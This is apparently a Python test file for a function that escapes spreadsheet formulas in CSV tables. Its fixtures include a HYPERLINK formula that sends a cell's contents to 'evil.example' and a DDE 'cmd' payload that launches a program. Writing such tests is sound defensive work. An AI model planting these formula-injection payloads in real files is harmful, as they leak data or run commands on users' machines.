"""Tables that a spreadsheet opens: nothing in them is computed, and nothing else changes."""

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.agent.agents.assistant.create_document import plain_table

CELLS = st.text(st.characters(exclude_categories=["C", "Z"]), max_size=12)


@pytest.mark.parametrize(
    ("content", "plain"),
    [
        ("a,b\n1,2\n", "a,b\n1,2\n"),
        ('a,b\n=HYPERLINK("https://evil.example/?"&A1),2\n', 'a,b\n"\'=HYPERLINK(""https://evil.example/?""&A1)",2\n'),
        ("a;b\n1;@SUM(A1)\n", "a;b\n1;'@SUM(A1)\n"),
        ("a\tb\n-5,5\t+420 777 123 456\n", "a\tb\n-5,5\t+420 777 123 456\n"),
        ("a,b\n-12 %,+cmd|' /C calc'!A0\n", "a,b\n-12 %,'+cmd|' /C calc'!A0\n"),
        ("a,b\n-1+A2, =1\n", "a,b\n'-1+A2,' =1\n"),
    ],
)
def test_formulas_become_text(content: str, plain: str) -> None:
    assert plain_table(content) == plain


@given(st.text(max_size=200))
def test_no_text_breaks_it(text: str) -> None:
    assert plain_table(plain_table(text)).count("\n") == plain_table(text).count("\n")


@given(st.lists(st.lists(CELLS, min_size=2, max_size=4), min_size=1, max_size=6))
def test_no_cell_begins_a_formula(rows: list[list[str]]) -> None:
    rows = [["a", "b", "c"], *rows]
    content = "\n".join(",".join(f'"{one.replace(chr(34), chr(34) * 2)}"' for one in row) for row in rows)
    found = list(csv.reader(plain_table(content).splitlines()))
    assert [len(one) for one in found] == [len(one) for one in rows]
    assert not any(cell.startswith(("=", "@")) for row in found for cell in row)
